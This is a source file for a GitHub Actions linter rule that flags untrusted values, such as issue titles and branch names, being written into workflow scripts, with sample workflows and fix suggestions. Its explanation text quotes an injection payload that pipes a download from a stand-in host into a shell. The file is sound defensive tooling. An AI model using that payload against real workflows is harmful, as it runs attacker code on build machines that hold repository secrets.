import type { Step, Variable, Workflow } from "../../dialects/github/workflow.ts";
import { defineRule } from "../../findings/rule.ts";
import { textOf, valueAt, type YamlNode, type YamlScalar } from "../../source/tree.ts";
import { WorkflowSubject } from "../../validate/subject.ts";
import { envFix } from "./injection-fix.ts";
import { actionOf, inputNodeOf, type SecuritySubject, type StepPlace, stepsOf, usesVariable } from "./places.ts";
import { isChosenByCaller, type UntrustedValue, untrustedValues } from "./untrusted.ts";
import { expressionsIn, flowingAccesses, placeOf, type WrittenExpression } from "./written.ts";

const SOURCE = "https://docs.github.com/en/actions/concepts/security/script-injections";

/** Inputs that are scripts or commands, by action. Source: the metadata and README of each. */
const SCRIPT_INPUTS: Readonly<Record<string, readonly string[]>> = {
  "actions/github-script": ["script"],
  "addnab/docker-run-action": ["run"],
  "amadevus/pwsh-script": ["script"],
  "appleboy/ssh-action": ["script"],
  "azure/cli": ["inlinescript"],
  "azure/powershell": ["inlinescript"],
  "cross-platform-actions/action": ["run"],
  "cypress-io/github-action": ["build", "command", "install-command", "start", "start-windows"],
  "devcontainers/ci": ["runcmd"],
  "garygrossgarten/github-action-ssh": ["command"],
  "jannekem/run-python-script-action": ["script"],
  "mikefarah/yq": ["cmd"],
  "nick-fields/retry": ["command", "on_retry_command", "new_command_on_retry"],
  "nick-invision/retry": ["command", "on_retry_command", "new_command_on_retry"],
  "reactivecircus/android-emulator-runner": ["script", "pre-emulator-launch-script"],
  "uraimo/run-on-arch-action": ["install", "run", "setup"],
  "vmactions/freebsd-vm": ["prepare", "run"],
  "vmactions/netbsd-vm": ["prepare", "run"],
  "vmactions/omnios-vm": ["prepare", "run"],
  "vmactions/openbsd-vm": ["prepare", "run"],
  "vmactions/solaris-vm": ["prepare", "run"],
  "workflow/nix-shell-action": ["script"],
};

/** Outputs that give on what strangers wrote, by action: names of branches and files. */
const TAINTED_OUTPUTS: Readonly<Record<string, RegExp>> = {
  "actions-cool/issues-helper": /^(?:issue-title|issue-body|comment-body)$/,
  "dorny/paths-filter": /_files$/,
  "jitterbit/get-changed-files": /./,
  "peter-murray/issue-body-parser-action": /./,
  "stefanbuck/github-issue-parser": /./,
  "tj-actions/branch-names": /^(?:current_branch|head_ref_branch|ref_branch)$/,
  "tj-actions/changed-files": /_files$/,
  "trilom/file-changes-action": /./,
  "xt0rted/pull-request-comment-branch": /_ref$/,
};

/** Values of others that become part of a script. */
export const injection = defineRule<
  SecuritySubject,
  "security/script-injection" | "security/indirect-script-injection" | "security/value-in-script"
>({
  codes: {
    "security/script-injection": {
      title: "Untrusted value is written into a script",
      severity: "error",
      confidence: "high",
      explanation:
        'GitHub puts the value into the text of the script before anything runs it: a title such as `"; curl evil.example | sh; "` is then a command, and an innocent quote breaks the script. Hand the value over in `env`, and use the variable in quotes. An object that is written out as a whole (`toJSON(github.event)`) is told as a warning, unless strangers set off the run with the rights and secrets of the repository (`issues`, `issue_comment`, `pull_request_target`, ...).',
      bad: `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event.issue.title }}"
`,
      good: `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: \${{ github.event.issue.title }}
`,
      source: SOURCE,
    },
    "security/indirect-script-injection": {
      title: "Untrusted value reaches a script by a detour",
      severity: "warning",
      confidence: "medium",
      explanation:
        "A variable or the output of a step holds what strangers wrote, and an expression writes it into a script all the same. In `env` the value is safe only as long as the script uses the variable (`$TITLE`) and not the expression `env.TITLE`.",
      bad: `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ env.TITLE }}"
        env:
          TITLE: \${{ github.event.issue.title }}
`,
      good: `on: issues
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: \${{ github.event.issue.title }}
`,
      source: SOURCE,
    },
    "security/value-in-script": {
      title: "Value of the caller is written into a script",
      severity: "info",
      confidence: "low",
      explanation:
        "Whoever calls the action or workflow, starts the run by hand, or names a branch chooses the text of this script. That takes more rights than to open a pull request, but a value with a quote or a space breaks the script too. Hand it over in `env`.",
      bad: `on:
  workflow_dispatch:
    inputs:
      name:
        type: string
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo \${{ inputs.name }}
`,
      good: `on:
  workflow_dispatch:
    inputs:
      name:
        type: string
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$NAME"
        env:
          NAME: \${{ inputs.name }}
`,
      source: SOURCE,
    },
  },
  check(subject, report) {
    const { document } = subject;
    const workflow = subject instanceof WorkflowSubject ? subject.workflow : undefined;
    const open = workflow === undefined ? undefined : openInputs(workflow);
    for (const place of stepsOf(subject)) {
      for (const script of scriptsOf(place.step)) {
        for (const written of expressionsIn(script)) {
          for (const access of flowingAccesses(written.tree)) {
            const text = written.source.slice(access.span.start, access.span.end);
            const values = untrustedValues(access);
            if (values.length > 0) {
              const privileged = values.some((value) => isPrivileged(value, workflow));
              const severity = privileged || !isWholeObject(access.path) ? "error" : "warning";
              const fix = envFix(document, place, written);
              report(
                "security/script-injection",
                placeOf(document, written, access.span),
                message(values, text, place.step),
                {
                  severity,
                  ...(fix === undefined ? {} : { fix }),
                },
              );
              continue;
            }
            const detour = detourOf(place, access.path);
            if (detour !== undefined) {
              const message = `${text} holds ${detour.what}, which strangers write, and becomes part of the script. ${detour.remedy}`;
              const fix = envFix(document, place, written);
              report("security/indirect-script-injection", placeOf(document, written, access.span), message, {
                confidence: detour.certain ? "medium" : "low",
                ...(fix === undefined ? {} : { fix }),
              });
            } else if (isChosenByCaller(access) && isOpen(access.path, open)) {
              const message = `${text} becomes part of the script, whatever it holds. Hand it over in env and use the variable.`;
              const fix = envFix(document, place, written);
              report(
                "security/value-in-script",
                placeOf(document, written, access.span),
                message,
                fix === undefined ? {} : { fix },
              );
            }
          }
        }
      }
    }
  },
});

/** Whether an access gives the whole event, most of which is no text of strangers. */
function isWholeObject(path: string): boolean {
  return path === "github" || /^github\.event(?:\.\w+)?$/.test(path);
}

/** Whether strangers set off a run of this workflow that has the repository's rights, and holds the value. */
export function isPrivileged({ privilegedBy }: UntrustedValue, workflow: Workflow | undefined): boolean {
  return workflow?.events.some(({ name }) => privilegedBy.includes(name)) === true;
}

/** The texts of a step that are run as a script. */
function scriptsOf(step: Step): YamlScalar[] {
  const inputs = SCRIPT_INPUTS[actionOf(step) ?? ""] ?? [];
  return [step.run, ...inputs.map((name) => inputNodeOf(step.with, name))].filter((script) => script !== undefined);
}

function message(values: readonly UntrustedValue[], text: string, step: Step): string {
  const use = step.run === undefined ? "process.env or the script's own arguments" : "the variable in quotes";
  const remedy = `Hand it over in env and use ${use}.`;
  const names = values.map((value) => value.path);
  if (names.length === 1) return `Strangers write ${text}, and it becomes part of the script. ${remedy}`;
  const shown = names.length > 3 ? `${names.slice(0, 3).join(", ")} and ${names.length - 3} more` : names.join(", ");
  return `${text} gives ${shown}, which strangers write, and becomes part of the script. ${remedy}`;
}

interface Detour {
  readonly what: string;
  readonly remedy: string;
  /** Whether the file shows it; otherwise it is what the step probably does. */
  readonly certain: boolean;
}

/** What an access to `env` or to the output of a step brings along from strangers. */
function detourOf(place: StepPlace, path: string): Detour | undefined {
  const variable = /^env\.([\w-]+)$/.exec(path)?.[1];
  if (variable !== undefined) {
    const value = variableOf(place, variable);
    const untrusted = value === undefined ? undefined : untrustedIn(value.value);
    if (untrusted === undefined || value === undefined) return undefined;
    return { what: untrusted, remedy: `Use the variable ${value.name} itself.`, certain: true };
  }
  const [, job, given] = /^needs\.([\w-]+)\.outputs\.([\w-]+)$/.exec(path) ?? [];
  if (job !== undefined && given !== undefined) return fromJob(place, job, given);
  const [, id, output] = /^steps\.([\w-]+)\.outputs\.([\w-]+)$/.exec(path) ?? [];
  if (id === undefined || output === undefined) return undefined;
  const source = place.siblings.slice(0, place.index).find((step) => step.id?.text.toLowerCase() === id);
  if (source === undefined) return undefined;
  const remedy = "Hand it over in env and use the variable.";
  if (TAINTED_OUTPUTS[actionOf(source) ?? ""]?.test(output) === true) {
    return { what: "names that a pull request brings", remedy, certain: false };
  }
  return outputFrom(source, output, remedy);
}

/** What the output of another job brings along. */
function fromJob({ step, workflow }: StepPlace, id: string, output: string): Detour | undefined {
  const job = workflow?.jobs.find((other) => other.id.toLowerCase() === id);
  const value = job?.outputs?.entries.find(({ name }) => name.toLowerCase() === output)?.value;
  if (job === undefined || value?.kind !== "scalar") return undefined;
  const what = untrustedIn(value);
  if (what !== undefined) return { what, remedy: "Hand it over in env and use the variable.", certain: true };
  const end: StepPlace = { step, siblings: job.steps, index: job.steps.length, job, workflow };
  return expressionsIn(value)
    .flatMap(({ tree }) => flowingAccesses(tree))
    .filter(({ context }) => context === "steps")
    .flatMap(({ path }) => detourOf(end, path) ?? [])[0];
}

/** Whether a script sets an output from an untrusted value. */
function outputFrom(source: Step, output: string, remedy: string): Detour | undefined {
  const script = source.run;
  if (script === undefined) return undefined;
  for (const line of script.text.split("\n")) {
    const sets = new RegExp(`(?:^|[\\s"'=])${output}(?:=|<<)`, "i").test(line) || line.includes(`name=${output}::`);
    if (!sets) continue;
    const direct = expressionsIn(script)
      .filter(({ embedded }) => embedded !== undefined && line.includes(`{{${embedded.source}}}`))
      .flatMap(({ tree }) => flowingAccesses(tree).flatMap(untrustedValues));
    const [value] = direct;
    if (value !== undefined) return { what: value.path, remedy, certain: true };
    for (const entry of source.env?.entries ?? []) {
      const untrusted = untrustedIn(entry.value);
      if (untrusted !== undefined && usesVariable(line, entry.name)) {
        return { what: untrusted, remedy, certain: true };
      }
    }
  }
  return undefined;
}

/** The variable that a step sees under a name. */
export function variableOf({ step, job, workflow }: StepPlace, name: string): Variable | undefined {
  for (const env of [step.env, job?.env, workflow?.env]) {
    const found = env?.entries.find((entry) => entry.name.toLowerCase() === name.toLowerCase());
    if (found !== undefined) return found;
  }
  return undefined;
}

/** The path of an untrusted value that reaches a node. */
export function untrustedIn(node: Variable["value"]): string | undefined {
  if (node.kind !== "scalar") return undefined;
  const written: readonly WrittenExpression[] = expressionsIn(node);
  return written.flatMap(({ tree }) => flowingAccesses(tree).flatMap(untrustedValues))[0]?.path;
}

/** Whether a value can hold a script: inputs only where they are declared as text. */
function isOpen(path: string, open: ReadonlySet<string> | undefined): boolean {
  const input = /(?:^|\.)inputs\.([\w-]+)$/.exec(path)?.[1];
  return input === undefined || open === undefined || open.has(input);
}

/** Inputs that some event declares as text, in lower case: not numbers, truth values and choices. */
function openInputs({ events }: Workflow): ReadonlySet<string> {
  const declared = events.flatMap(({ settings }) => {
    const inputs = valueAt(settings, "inputs");
    return inputs?.kind === "mapping" ? inputs.entries : [];
  });
  const isText = (node: YamlNode) => ["string", "environment"].includes(textOf(valueAt(node, "type")) ?? "string");
  return new Set(declared.filter(({ value }) => isText(value)).map(({ key }) => key.text.toLowerCase()));
}
